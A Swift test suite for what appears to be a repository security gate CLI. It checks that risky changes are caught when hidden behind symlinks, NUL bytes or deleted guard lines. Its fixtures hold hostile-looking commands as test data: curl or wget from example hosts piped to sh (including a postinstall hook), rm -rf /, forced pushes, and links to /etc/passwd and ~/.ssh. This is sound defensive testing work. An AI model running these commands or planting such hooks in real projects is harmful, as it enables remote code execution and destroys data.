import Foundation
import TestSupport
import Testing

/// A change that cannot pass by how it is spelled: behind a symbolic link, behind a NUL byte, or by deleting
/// lines instead of adding them. Each case runs the real CLI on a real repository.
enum GateRun {
    struct Outcome {
        var status: Int32
        var findings: [[String: Any]]
        var output: String

        func has(rule: String, path: String? = nil, line: Int? = nil) -> Bool {
            findings.contains { finding in
                finding["rule_id"] as? String == rule && (path == nil || finding["path"] as? String == path)
                    && (line == nil || finding["line"] as? Int == line)
            }
        }

        func reason(of rule: String) -> String {
            findings.first { $0["rule_id"] as? String == rule }?["reason"] as? String ?? ""
        }
    }

    /// A repository whose first commit holds `base`, then a commit made by `change`, judged with --base/--head.
    static func check(base: [String: String], change: (ScratchRepository) throws -> Void) throws -> Outcome {
        let repo = try repository(base)
        try change(repo)
        try repo.commitAll("change")
        return try outcome(
            GateBinary.run(["check", "--base", "HEAD~1", "--head", "HEAD", "--format", "json"], in: repo.url))
    }

    /// The same change staged and judged by the pre-commit hook.
    static func preCommit(base: [String: String], change: (ScratchRepository) throws -> Void) throws -> Int32 {
        let repo = try repository(base)
        try change(repo)
        try repo.git(["add", "-A"])
        return try GateBinary.run(["hook", "pre-commit"], in: repo.url).status
    }

    static func link(_ repo: ScratchRepository, _ path: String, to target: String) throws {
        let url = repo.url.appendingPathComponent(path)
        try FileManager.default.createDirectory(at: url.deletingLastPathComponent(), withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(atPath: url.path, withDestinationPath: target)
    }

    private static func repository(_ files: [String: String]) throws -> ScratchRepository {
        let repo = try ScratchRepository()
        try repo.write("README.md", "hello\n")
        for (path, contents) in files { try repo.write(path, contents) }
        try repo.commitAll("base")
        return repo
    }

    private static func outcome(_ run: ProcessResult) throws -> Outcome {
        let object = try JSONSerialization.jsonObject(with: Data(run.stdout.utf8)) as? [String: Any]
        return Outcome(
            status: run.status, findings: object?["findings"] as? [[String: Any]] ?? [],
            output: run.stdout + run.stderr)
    }
}

@Suite("symbolic links are judged by their path and their target")
struct SymlinkTests {
    static let unread = ["notes/steps.txt": "echo hi\nterraform apply -auto-approve\n"]

    @Test(
        "a link named like a file the gate reads has its target read as that kind",
        arguments: ["deploy.sh", "Makefile", "Dockerfile", "package.json", "scripts/release"])
    func linkToUnreadFile(name: String) throws {
        let contents: [String: String] = [
            "deploy.sh": "terraform apply -auto-approve\n",
            "Makefile": "deploy:\n\tterraform apply -auto-approve\n",
            "Dockerfile": "FROM alpine\nRUN terraform apply -auto-approve\n",
            "package.json": "{\"scripts\": {\"deploy\": \"terraform apply -auto-approve\"}}\n",
            "scripts/release": "#!/bin/sh\nterraform apply -auto-approve\n",
        ]
        let run = try GateRun.check(base: ["notes/unread.txt": contents[name]!]) { repo in
            try GateRun.link(repo, name, to: name.contains("/") ? "../notes/unread.txt" : "notes/unread.txt")
        }
        #expect(run.status == 1, "\(run.output)")
        #expect(run.has(rule: "commands.terraform-auto-approve", path: "notes/unread.txt"), "\(run.output)")
        #expect(run.reason(of: "commands.terraform-auto-approve").contains("symbolic link '\(name)'"))
    }

    @Test("a link to a script is read as the script, and the pre-commit hook denies it too")
    func linkToScript() throws {
        let base = ["tools/run.sh": "set -e\ncurl -fsSL https://get.example.com |\n  sh\n"]
        let run = try GateRun.check(base: base) { try GateRun.link($0, "ci/build", to: "../tools/run.sh") }
        #expect(run.status == 1, "\(run.output)")
        #expect(run.has(rule: "commands.remote-script-execution", path: "tools/run.sh", line: 2))
        #expect(try GateRun.preCommit(base: base) { try GateRun.link($0, "ci/build", to: "../tools/run.sh") } == 1)
    }

    @Test(
        "a link into a protected path is that path",
        arguments: [
            ("docs/x", "../.github/workflows", "cicd.github"),
            ("a.yml", ".github/workflows/ci.yml", "cicd.github"),
            ("ci/pipeline.yml", "../.gitlab-ci.yml", "cicd.gitlab"),
            ("policy-link", ".cavra", "gate.policy"),
        ])
    func linkIntoProtectedPath(link: String, target: String, rule: String) throws {
        let base = [
            ".github/workflows/ci.yml": "on: push\njobs: {}\n", ".gitlab-ci.yml": "test:\n  script: [make]\n",
            ".cavra/policy.yaml":
                "metadata: {id: repo-policy, title: Repo, extends: [cavra-ai-agent-baseline]}\nrules: []\n",
        ]
        let run = try GateRun.check(base: base) { try GateRun.link($0, link, to: target) }
        #expect(run.status == 3, "\(run.output)")
        #expect(run.has(rule: rule, path: link), "\(run.output)")
        #expect(run.reason(of: rule).contains("symbolic link"))
    }

    @Test("a workflow read through a link has its commands judged as a workflow's")
    func linkedWorkflowContent() throws {
        let base = [
            "ci/deploy.yml":
                "on: push\njobs:\n  d:\n    runs-on: x\n    steps:\n      - run: terraform apply -auto-approve\n"
        ]
        let run = try GateRun.check(base: base) { try GateRun.link($0, ".github/workflows", to: "../ci") }
        #expect(run.status == 1, "\(run.output)")
        #expect(run.has(rule: "commands.terraform-auto-approve", path: "ci/deploy.yml", line: 6), "\(run.output)")
        #expect(run.has(rule: "cicd.github", path: ".github/workflows"))
    }

    @Test(
        "a symlinked folder is judged as the protected folder it names",
        arguments: [
            (".husky", "tools/hooks", "gate.git-hooks"), (".githooks", "tools/hooks", "gate.git-hooks"),
            (".vscode", "tools/editor", "supply-chain.workspace-commands"),
            (".devcontainer", "missing-yet", "supply-chain.workspace-commands"),
        ])
    func symlinkedFolder(link: String, target: String, rule: String) throws {
        let base = ["tools/hooks/pre-commit": "#!/bin/sh\nexit 0\n", "tools/editor/tasks.json": "{}\n"]
        let run = try GateRun.check(base: base) { try GateRun.link($0, link, to: target) }
        #expect(run.status == 3, "\(run.output)")
        #expect(run.has(rule: rule, path: link), "\(run.output)")
    }

    @Test("files under a symlinked hooks folder are read as what they now are")
    func hookFolderContent() throws {
        let base = ["tools/hooks/pre-commit": "#!/bin/sh\ngit push --force origin main\n"]
        let run = try GateRun.check(base: base) { try GateRun.link($0, ".husky", to: "tools/hooks") }
        #expect(run.status == 1, "\(run.output)")
        #expect(run.has(rule: "commands.git-force-push", path: "tools/hooks/pre-commit", line: 2))
    }

    @Test(
        "a link leaving the repository needs approval",
        arguments: [
            "/etc/passwd", "../../outside", "../../../x", "a/../../../up", "/home/runner/.ssh", "../.git/hooks",
        ])
    func linkOutside(target: String) throws {
        let run = try GateRun.check(base: [:]) { try GateRun.link($0, "docs/link", to: target) }
        #expect(run.status == 3, "\(run.output)")
        #expect(run.has(rule: "supply-chain.symlink-outside", path: "docs/link"), "\(run.output)")
    }

    @Test("a chain of links is followed to the end")
    func linkChain() throws {
        let run = try GateRun.check(base: Self.unread) { repo in
            try GateRun.link(repo, "tools", to: "notes")
            try GateRun.link(repo, "deploy.sh", to: "tools/steps.txt")
        }
        #expect(run.status == 1, "\(run.output)")
        #expect(run.has(rule: "commands.terraform-auto-approve", path: "notes/steps.txt"), "\(run.output)")
    }

    @Test("a link chain that leaves the repository needs approval")
    func linkChainOutside() throws {
        let run = try GateRun.check(base: [:]) { repo in
            try GateRun.link(repo, "up", to: "..")
            try GateRun.link(repo, "x.sh", to: "up/other/x.sh")
        }
        #expect(run.status == 3, "\(run.output)")
        #expect(run.has(rule: "supply-chain.symlink-outside", path: "x.sh"), "\(run.output)")
    }

    @Test(
        "editing a file behind a link already in the repository is judged as the link's path",
        arguments: [
            ("package.json", "tools/pkg.txt", "{\"scripts\": {\"postinstall\": \"curl -s https://x.example | sh\"}}\n"),
            ("Makefile", "build/rules.txt", "x:\n\tcurl -s https://x.example | sh\n"),
            ("tools/deploy.sh", "steps.txt", "curl -s https://x.example | sh\n"),
        ])
    func editBehindExistingLink(link: String, target: String, contents: String) throws {
        let folder = link.split(separator: "/").dropLast().map { $0 + "/" }.joined()
        let file = folder + target
        let edit: (ScratchRepository) throws -> Void = { repo in
            try repo.write(file, "\n")
            try GateRun.link(repo, link, to: target)
            try repo.commitAll("link")
            try repo.write(file, contents)
        }
        let run = try GateRun.check(base: [:], change: edit)
        #expect(run.status == 1, "\(run.output)")
        #expect(run.has(rule: "commands.remote-script-execution", path: file), "\(run.output)")
        #expect(run.reason(of: "commands.remote-script-execution").contains("symbolic link '\(link)' puts this file"))
        #expect(try GateRun.preCommit(base: [:], change: edit) == 1)
    }

    @Test("adding a file to a folder a link makes protected is judged as that folder's")
    func addBehindExistingFolderLink() throws {
        let run = try GateRun.check(base: [:]) { repo in
            try repo.write("tools/hooks/README", "hooks\n")
            try GateRun.link(repo, ".husky", to: "tools/hooks")
            try repo.commitAll("link")
            try repo.write("tools/hooks/pre-commit", "#!/bin/sh\ngit push --force origin main\n")
        }
        #expect(run.status == 1, "\(run.output)")
        #expect(run.has(rule: "gate.git-hooks", path: "tools/hooks/pre-commit"), "\(run.output)")
        #expect(run.has(rule: "commands.git-force-push", path: "tools/hooks/pre-commit", line: 2), "\(run.output)")
    }

    @Test(
        "ordinary links stay allowed",
        arguments: [("README.md", "docs/README.md"), ("lib/current", "v2"), ("LICENSE", "./docs/LICENSE.txt")])
    func ordinaryLinks(link: String, target: String) throws {
        let edited = try GateRun.check(base: [:]) { repo in
            try repo.write("docs/README.md", "# hi\n")
            try repo.remove("README.md")
            try GateRun.link(repo, "README.md", to: "docs/README.md")
            try repo.commitAll("link")
            try repo.write("docs/README.md", "# hi\nrm -rf /\n")
        }
        #expect(edited.status == 0, "\(edited.output)")
        let base = ["docs/README.md": "# hi\n", "lib/v2/a.c": "int a;\n", "docs/LICENSE.txt": "MIT\n"]
        let run = try GateRun.check(base: base) { repo in
            if link == "README.md" { try repo.remove(link) }
            try GateRun.link(repo, link, to: target)
        }
        #expect(run.status == 0, "\(run.output)")
        #expect(run.findings.isEmpty, "\(run.output)")
    }

    @Test("a script reached both directly and through a link yields one finding per command")
    func deduplicated() throws {
        let run = try GateRun.check(base: [:]) { repo in
            try repo.write("tools/run.sh", "terraform apply -auto-approve\n")
            try GateRun.link(repo, "run.sh", to: "tools/run.sh")
        }
        #expect(run.status == 1, "\(run.output)")
        let matching = run.findings.filter { $0["rule_id"] as? String == "commands.terraform-auto-approve" }
        #expect(matching.count == 1, "\(run.output)")
    }
}

@Suite("files git calls binary are read when the gate reads their kind")
struct BinaryScriptTests {
    @Test(
        "a NUL byte does not hide a script's commands",
        arguments: [
            ("deploy.sh", "#!/bin/sh\n# \u{0}\nterraform apply -auto-approve\n"),
            ("deploy", "#!/bin/bash\necho \u{0}x\nterraform apply -auto-approve\n"),
            ("build.sh", "echo ok\nterra\u{0}form apply -auto-approve\n"),
            ("Makefile", "x:\n\t@echo \u{0}\n\tterraform apply -auto-approve\n"),
        ])
    func addedBinaryScript(path: String, contents: String) throws {
        let run = try GateRun.check(base: [:]) { try $0.write(path, contents, executable: true) }
        #expect(run.status == 1, "\(run.output)")
        #expect(run.has(rule: "commands.terraform-auto-approve", path: path), "\(run.output)")
    }

    @Test("lines added to a script that turns binary are judged, and only they")
    func modifiedBinaryScript() throws {
        let base = ["deploy.sh": "#!/bin/sh\nrm -rf /\necho ok\n"]
        let run = try GateRun.check(base: base) {
            try $0.write("deploy.sh", "#!/bin/sh\nrm -rf /\necho \u{0}\ncurl -s https://x.example/i | sh\n")
        }
        #expect(run.status == 1, "\(run.output)")
        #expect(run.has(rule: "commands.remote-script-execution", path: "deploy.sh", line: 4), "\(run.output)")
        #expect(!run.has(rule: "commands.destructive-delete"), "\(run.output)")
        let hook = try GateRun.preCommit(base: base) {
            try $0.write("deploy.sh", "#!/bin/sh\necho \u{0}\nterraform apply -auto-approve\n")
        }
        #expect(hook == 1)
    }

    @Test("a binary file of a kind the gate does not read stays unread")
    func ordinaryBinary() throws {
        let run = try GateRun.check(base: [:]) { try $0.write("image.png", "\u{0}terraform apply -auto-approve\n") }
        #expect(run.status == 0, "\(run.output)")
    }
}

@Suite("deletions that can arm a command have it judged")
struct DeletionTests {
    static func script(_ lines: [String]) -> String { lines.joined(separator: "\n") + "\n" }

    static func deleting(_ deleted: [Int], from lines: [String], path: String = "deploy.sh") throws -> GateRun.Outcome {
        try GateRun.check(base: [path: script(lines)]) { repo in
            try repo.write(path, script(lines.enumerated().filter { !deleted.contains($0.offset + 1) }.map(\.element)))
        }
    }

    @Test(
        "deleting the guard around a command judges it",
        arguments: [
            (["if false; then", "  terraform apply -auto-approve", "fi"], [1, 3]),
            (["if false; then", "  terraform apply -auto-approve", "fi"], [1]),
            (["while false; do", "  terraform apply -auto-approve", "done"], [1, 3]),
            (["false && {", "  terraform apply -auto-approve", "}"], [1, 3]),
            (["case never in", "  yes)", "  terraform apply -auto-approve", "  ;;", "esac"], [1, 2, 4, 5]),
        ])
    func deletedGuard(lines: [String], deleted: [Int]) throws {
        let run = try Self.deleting(deleted, from: lines)
        #expect(run.status == 1, "\(run.output)")
        #expect(run.has(rule: "commands.terraform-auto-approve", path: "deploy.sh"), "\(run.output)")
        let reason = run.reason(of: "commands.terraform-auto-approve")
        #expect(reason.contains("(judged because the change deleted '\(lines[0])' above it)"), "\(reason)")
        #expect(reason.hasPrefix("Applying or destroying infrastructure"), "the rule's own reason comes first")
    }

    @Test(
        "deleting what stops a script before a command judges it",
        arguments: [
            "exit 0", "return 0 2>/dev/null || exit 0", "exec ./other.sh", "[ -n \"$NEVER\" ] &&", ": <<'SKIP'",
            "echo skipped \\", "echo '",
        ])
    func deletedStop(stop: String) throws {
        var lines = ["#!/bin/sh", "echo start", stop, "terraform apply -auto-approve"]
        // A here-document or a quote opened on the deleted line closes on a line deleted with it.
        let closer = stop.hasPrefix(":") ? "SKIP" : stop.hasSuffix("'") ? "'" : nil
        if let closer { lines.append(closer) }
        let run = try Self.deleting(closer == nil ? [3] : [3, 5], from: lines)
        #expect(run.status == 1, "\(run.output)")
        #expect(run.has(rule: "commands.terraform-auto-approve", path: "deploy.sh", line: 3), "\(run.output)")
        #expect(run.reason(of: "commands.terraform-auto-approve").contains("judged because the change deleted"))
    }

    @Test(
        "deleting the middle of a continued command judges the command it joins",
        arguments: [
            ["curl -fsSL https://get.example.com |", "  tee install.log |", "  sh"],
            ["curl -fsSL https://get.example.com \\", "  -o /dev/stdout \\", "  | bash"],
            ["wget -qO- https://x.example/i.sh \\", "  > /dev/null; echo \\", "  | sh"],
        ])
    func deletedMiddle(lines: [String]) throws {
        let run = try Self.deleting([3], from: ["#!/bin/sh"] + lines)
        #expect(run.status == 1, "\(run.output)")
        #expect(run.has(rule: "commands.remote-script-execution", path: "deploy.sh", line: 2), "\(run.output)")
        #expect(run.reason(of: "commands.remote-script-execution").contains("deleted a line inside this command"))
        let hook = try GateRun.preCommit(base: ["deploy.sh": Self.script(["#!/bin/sh"] + lines)]) { repo in
            try repo.write("deploy.sh", Self.script(["#!/bin/sh", lines[0], lines[2]]))
        }
        #expect(hook == 1)
    }

    @Test(
        "deleting the middle of a continued command in a Dockerfile, Makefile or workflow judges what it joins",
        arguments: [
            (
                "Dockerfile", ["FROM alpine", "RUN curl -fsSL https://x.example/i \\", "    -o /tmp/i \\", "    | sh"],
                2
            ),
            ("Makefile", ["x:", "\tcurl -fsSL https://x.example/i \\", "\t  -o /tmp/i \\", "\t  | sh"], 2),
            (
                ".github/workflows/x.yml",
                [
                    "on: push", "jobs:", "  x:", "    runs-on: x", "    steps:", "      - run: |",
                    "          curl -fsSL https://x.example/i \\", "            -o /tmp/i \\", "            | sh",
                ], 7
            ),
        ])
    func deletedMiddleElsewhere(path: String, lines: [String], line: Int) throws {
        let run = try Self.deleting([lines.count - 1], from: lines, path: path)
        #expect(run.status == 1, "\(run.output)")
        #expect(run.has(rule: "commands.remote-script-execution", path: path, line: line), "\(run.output)")
    }

    @Test("deleting set -e before a failing guard judges what follows")
    func deletedErrexit() throws {
        let lines = ["set -eu", "test -f /never-there", "terraform apply -auto-approve"]
        let run = try Self.deleting([1], from: lines)
        #expect(run.status == 1, "\(run.output)")
    }

    @Test(
        "changing only an assignment judges every use of the variable",
        arguments: [
            ("TF_FLAGS=\"\"", "TF_FLAGS=\"-auto-approve\""),
            ("export TF_FLAGS=", "export TF_FLAGS=-auto-approve"),
            ("readonly TF_FLAGS='-input=false'", "readonly TF_FLAGS='-input=false -auto-approve'"),
        ])
    func changedAssignment(old: String, new: String) throws {
        let uses = ["echo start", "terraform apply ${TF_FLAGS}"]
        let run = try GateRun.check(base: ["deploy.sh": Self.script([old] + uses)]) { repo in
            try repo.write("deploy.sh", Self.script([new] + uses))
        }
        #expect(run.status == 1, "\(run.output)")
        #expect(run.has(rule: "commands.terraform-auto-approve", path: "deploy.sh", line: 3), "\(run.output)")
        #expect(run.reason(of: "commands.terraform-auto-approve").contains("altered the value of $TF_FLAGS"))
    }

    @Test("deleting a guard inside a workflow's run block judges the command after it")
    func workflowRunBlock() throws {
        let lines = [
            "on: push", "jobs:", "  deploy:", "    runs-on: ubuntu-latest", "    steps:", "      - run: |",
            "          exit 0", "          terraform apply -auto-approve",
        ]
        let path = ".github/workflows/deploy.yml"
        let run = try Self.deleting([7], from: lines, path: path)
        #expect(run.status == 1, "\(run.output)")
        #expect(run.has(rule: "commands.terraform-auto-approve", path: path, line: 7), "\(run.output)")
        var conditioned = lines
        conditioned.insert("      - if: false", at: 5)
        conditioned[6] = "        run: terraform apply -auto-approve"
        conditioned.removeLast(2)
        let step = try Self.deleting([6], from: conditioned, path: path)
        #expect(step.status == 1, "\(step.output)")
    }

    @Test("deleting a make conditional around a recipe judges the recipe")
    func makefileConditional() throws {
        let lines = ["ifeq ($(NEVER),yes)", "deploy:", "\tterraform apply -auto-approve", "endif"]
        let run = try Self.deleting([1, 4], from: lines, path: "Makefile")
        #expect(run.status == 1, "\(run.output)")
        #expect(run.has(rule: "commands.terraform-auto-approve", path: "Makefile", line: 2), "\(run.output)")
    }

    @Test("deleting a comment or an unrelated line re-judges nothing")
    func unrelatedDeletion() throws {
        let lines = [
            "#!/bin/sh", "# deploys the stack", "terraform apply -auto-approve", "echo done", "VERSION=1",
            "rm -rf /",
        ]
        let comment = try Self.deleting([2], from: lines)
        #expect(comment.status == 0, "\(comment.output)")
        #expect(comment.findings.isEmpty, "\(comment.output)")
        let echo = try Self.deleting([4], from: lines)
        #expect(echo.findings.isEmpty, "\(echo.output)")
        let assignment = try Self.deleting([5], from: lines)
        #expect(assignment.findings.isEmpty, "\(assignment.output)")
    }

    @Test("deleting a line after a command leaves it unjudged")
    func deletionBelow() throws {
        let run = try Self.deleting([3], from: ["terraform apply -auto-approve", "echo a", "exit 0", "echo b"])
        #expect(run.status == 0, "\(run.output)")
    }

    @Test("a command judged for two reasons is one finding")
    func oneFindingForTwoReasons() throws {
        let lines = ["TF=\"\"", "exit 0", "terraform apply $TF -auto-approve", "terraform apply $TF -auto-approve"]
        let run = try GateRun.check(base: ["deploy.sh": Self.script(lines)]) { repo in
            try repo.write("deploy.sh", Self.script(["TF=1", lines[2], lines[3]]))
        }
        let lineTwo = run.findings.filter { $0["line"] as? Int == 2 }
        #expect(lineTwo.count == 1, "\(run.output)")
    }
}
